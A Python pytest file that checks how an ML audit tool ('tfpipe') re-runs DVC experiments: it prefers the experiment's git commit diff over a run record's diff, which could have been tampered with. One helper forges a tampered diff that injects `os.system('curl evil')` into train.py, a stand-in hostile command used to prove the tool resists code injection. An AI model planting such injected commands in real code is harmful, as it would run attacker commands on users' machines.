"""Issue 35, item 11, the DVC way: a `dvc exp run` experiment shared with `dvc exp push` and fetched with
`dvc exp pull` is re-run from its own commit's changes (git's, not the run record's diff, which anyone with EDIT
on the store can replace); an unshared one from its baseline plus the record's diff; the audit says which. A real
DVC project in tmp_path with a one-line stage, real `dvc exp run` and `dvc exp pull`; no training. Expected
values come from git itself. `rerun` itself takes the experiment's commit before the gate judges any diff (it is
stopped right after the gate)."""

from __future__ import annotations

import importlib
import sys

import pytest
from test_audit_diff_refusals import _sh

from tfpipe.audit import experiment, sandbox, trust
from tfpipe.audit.review import digest
from tfpipe.audit.trust import gate
from tfpipe.errors import UserError

pytestmark = pytest.mark.slow  # starts processes (git, dvc)
rerun_module = importlib.import_module("tfpipe.audit.rerun")  # `tfpipe.audit.rerun` is also the function

NAME = "lumpy-bike"


@pytest.fixture(scope="module")
def shared(tmp_path_factory):
    """(project, baseline commit, the experiment's commit): one `dvc exp run -S lr=2 -n lumpy-bike`."""
    project = tmp_path_factory.mktemp("exp") / "project"
    project.mkdir()
    _sh(project, "git", "init", "-q", "-b", "main")
    _sh(project, sys.executable, "-m", "dvc", "init", "-q")
    (project / "params.yaml").write_text("lr: 1\n")
    (project / "train.py").write_text("print('train')\n")
    (project / "dvc.yaml").write_text(
        "stages:\n  train:\n    cmd: echo ${lr} > out.txt\n    deps: [train.py]\n    params: [lr]\n"
        "    outs: [out.txt]\n"
    )
    _sh(project, "git", "add", "-A")
    _sh(project, "git", "commit", "-qm", "baseline")
    baseline = _sh(project, "git", "rev-parse", "HEAD").strip()
    _sh(project, sys.executable, "-m", "dvc", "exp", "run", "-q", "-S", "lr=2", "-n", NAME)
    refs = _sh(project, "git", "for-each-ref", "--format=%(refname)", "refs/exps/").split()
    (ref,) = [r for r in refs if r.endswith(f"/{NAME}")]  # DVC's own refs/exps/exec/* beside it
    commit = _sh(project, "git", "rev-parse", ref).strip()
    _sh(project, "git", "checkout", "-q", "--", ".")  # the workspace back at the baseline
    with (project / "train.py").open("a") as code:  # a second experiment that edits code
        code.write("print('edited')\n")
    _sh(project, sys.executable, "-m", "dvc", "exp", "run", "-q", "-n", "code-edit")
    _sh(project, "git", "checkout", "-q", "--", ".")
    return project, baseline, commit


def _run(baseline: str, diff: str) -> dict:
    tags = {"dvc.exp_name": NAME, "git.commit": baseline, "git.dirty": "true"}
    return {"tags": tags, "git_diff": diff, "dvc_lock": "recorded"}


def _forged(diff: str) -> str:
    """`diff` with a line of code added to train.py: what a record changed in the store could carry."""
    forged = diff + "diff --git a/train.py b/train.py\n--- a/train.py\n+++ b/train.py\n@@ -1 +1,2 @@\n"
    return forged + " print('train')\n+import os; os.system('curl evil')\n"


def test_a_shared_experiment_is_rerun_from_its_commits_changes_not_the_records(shared):
    project, baseline, commit = shared
    from_git = _sh(project, "git", "diff", baseline, commit)
    assert "+lr: 2" in from_git  # the experiment's params, as git holds them
    lines: list = []
    chosen = experiment.choose(_run(baseline, from_git), project, lines.append)
    assert chosen["git_diff"] == from_git
    assert chosen["dvc_lock"] == _sh(project, "git", "show", f"{commit}:dvc.lock")
    assert len(lines) == 1 and f"experiment '{NAME}' is in this clone" in lines[0] and commit[:12] in lines[0]

    # a record changed in the store (a line of code added to its diff) is not what runs, and the audit says so
    lines.clear()
    chosen = experiment.choose(_run(baseline, _forged(from_git)), project, lines.append)
    assert chosen["git_diff"] == from_git
    assert lines[1] == "rerun: the run record's diff differs from the experiment's commit in train.py"


def test_an_unshared_experiment_is_its_baseline_plus_the_records_diff_until_pulled(shared, tmp_path):
    project, baseline, commit = shared
    clone = tmp_path / "teammate"
    _sh(tmp_path, "git", "clone", "-q", str(project), str(clone))  # a clone carries no refs/exps
    run = _run(baseline, "the record's diff")
    lines: list = []
    assert experiment.choose(run, clone, lines.append) is run
    assert lines == [
        f"rerun: experiment '{NAME}' is not in this clone (`dvc exp pull REMOTE {NAME}` fetches it if it was "
        f"pushed): re-running its baseline {baseline[:12]} plus the run record's diff"
    ]
    _sh(clone, sys.executable, "-m", "dvc", "exp", "pull", "--no-cache", "origin", NAME)
    lines.clear()
    chosen = experiment.choose(run, clone, lines.append)
    assert chosen["git_diff"] == _sh(project, "git", "diff", baseline, commit)
    assert f"experiment '{NAME}' is in this clone" in lines[0]


def test_an_experiment_of_another_baseline_is_not_the_runs(shared):
    project, baseline, commit = shared
    other = _sh(project, "git", "commit-tree", "-m", "other", f"{baseline}^{{tree}}").strip()
    run = _run(other, "the record's diff")
    lines: list = []
    assert experiment.choose(run, project, lines.append) is run
    assert "is not in this clone" in lines[0]
    assert experiment.choose({"tags": {"git.commit": baseline}}, project, lines.append)["tags"] == {
        "git.commit": baseline
    }  # not a DVC experiment: nothing said
    assert len(lines) == 1


def test_an_experiment_commit_that_edits_code_needs_allow_diff_code_and_names_the_git_diff(shared):
    project, baseline, _ = shared
    run = {
        **_run(baseline, "the record's diff"),
        "tags": {**_run(baseline, "")["tags"], "dvc.exp_name": "code-edit"},
    }
    chosen = experiment.choose(run, project, lambda line: None)
    assert "+print('edited')" in chosen["git_diff"]
    with pytest.raises(UserError) as refused:
        gate("RUN", chosen, project, digest(chosen["git_diff"]), None)
    assert "(train.py); read it (`git diff " in str(refused.value) and "--allow-diff-code" in str(
        refused.value
    )
    gate(
        "RUN", chosen, project, digest(chosen["git_diff"]), None, allow_code=True
    )  # the second flag: it passes


class _Chosen(Exception):
    """Raised at the re-run's next step after its choice of code and the gate (the sandbox decision)."""


def test_a_rerun_chooses_the_experiment_commit_before_it_judges_any_diff(shared, monkeypatch):
    """The order inside `rerun`: a record whose diff the gate refuses (it edits code: no --allow-diff-code) but
    whose experiment commit this clone has, clean, goes on past the gate, which saw the commit's changes only.
    Judging the record's diff first would refuse a run the experiment's own commit re-creates. Stops there:
    no worktree, no stage."""
    project, baseline, commit = shared
    from_git = _sh(project, "git", "diff", baseline, commit)
    record = {**_run(baseline, _forged(from_git)), "run_id": "RUN", "config": {}, "metrics": {}}
    with pytest.raises(UserError, match="--allow-diff-code"):  # the record's own diff would be refused
        gate("RUN", record, project, digest(record["git_diff"]), None)
    gated: list = []
    real_gate = trust.gate

    def spy_gate(run_id, run, *args, **kwargs):
        gated.append(run["git_diff"])
        real_gate(run_id, run, *args, **kwargs)

    def stop(mode, log):
        raise _Chosen

    monkeypatch.setattr(rerun_module, "load_recorded", lambda run_id, uri: record)
    monkeypatch.setattr(trust, "gate", spy_gate)
    monkeypatch.setattr(sandbox, "decide", stop)
    lines: list = []
    with pytest.raises(_Chosen):
        rerun_module.rerun(
            "RUN", project, "sqlite:///never-opened.db", apply_diff=digest(from_git), log=lines.append
        )
    assert gated == [from_git], "the gate judged the experiment commit's changes, and nothing else"
    assert f"experiment '{NAME}' is in this clone" in lines[0]
